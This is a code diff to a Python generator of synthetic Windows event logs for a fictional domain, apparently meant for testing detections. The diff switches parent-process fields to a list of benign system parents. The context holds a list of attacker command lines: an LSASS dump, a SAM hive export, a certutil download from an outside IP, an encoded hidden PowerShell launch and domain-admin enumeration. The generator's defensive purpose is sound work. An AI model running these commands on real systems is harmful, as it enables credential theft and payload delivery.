@@ -22,6 +22,8 @@ SUSPICIOUS = ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAG
               "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "whoami.exe /all",
               "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
               "net.exe group \"Domain Admins\" /domain", "wmic.exe process call create \"cmd.exe /c calc.exe\""]
+# What starts programs on a machine that nobody attacks.
+PARENTS = ["C:\\Windows\\System32\\services.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\svchost.exe"]
 KEYS = ["HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "HKU\\S-1-5-21\\Software\\Microsoft\\Office\\16.0",
         "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\Aggregation", "HKCR\\Local Settings\\MuiCache\\1f"]
 LIBRARIES = ["ntdll.dll", "kernel32.dll", "amsi.dll", "combase.dll", "clr.dll", "crypt32.dll", "ws2_32.dll", "wininet.dll", "urlmon.dll"]
@@ -60,7 +62,7 @@ class Estate:
     def audit_process(self, user: str) -> dict:
         image = self.program(user)
         return {"NewProcessName": image, "NewProcessId": hex(self.random.randrange(300, 20000)), "TokenElevationType": "%%1936",
-                "CommandLine": f"\"{image}\" {self.random.choice(ARGUMENTS)}", "ParentProcessName": self.program(user)}
+                "CommandLine": f"\"{image}\" {self.random.choice(ARGUMENTS)}", "ParentProcessName": self.random.choice(PARENTS)}
 
     def logon(self, user: str) -> dict:
         return {"TargetUserName": user, "TargetDomainName": "CONTOSO", "LogonType": self.random.choice(["2", "3", "5", "7"]),
@@ -76,7 +78,7 @@ class Estate:
                 image = "C:\\Windows\\System32\\" + line.split(" ")[0]
             return {"Image": image, "CommandLine": line, "CurrentDirectory": f"C:\\Users\\{user}\\", "IntegrityLevel": "Medium",
                     "Hashes": f"SHA1={choose.getrandbits(160):040X},MD5={choose.getrandbits(128):032X},IMPHASH={choose.getrandbits(128):032X}",
-                    "ParentImage": self.program(user), "ParentCommandLine": f"{self.program(user)} {choose.choice(ARGUMENTS)}",
+                    "ParentImage": choose.choice(PARENTS), "ParentCommandLine": f"{choose.choice(PARENTS)} {choose.choice(ARGUMENTS)}",
                     "OriginalFileName": image.rsplit("\\", 1)[1], "Company": "Microsoft Corporation", "Product": "Windows",
                     "Description": "Host Process for Windows Services", "FileVersion": "10.0.19041.1806", "LogonId": "0x3e7",
                     "ParentUser": f"CONTOSO\\{user}", "TerminalSessionId": 1}
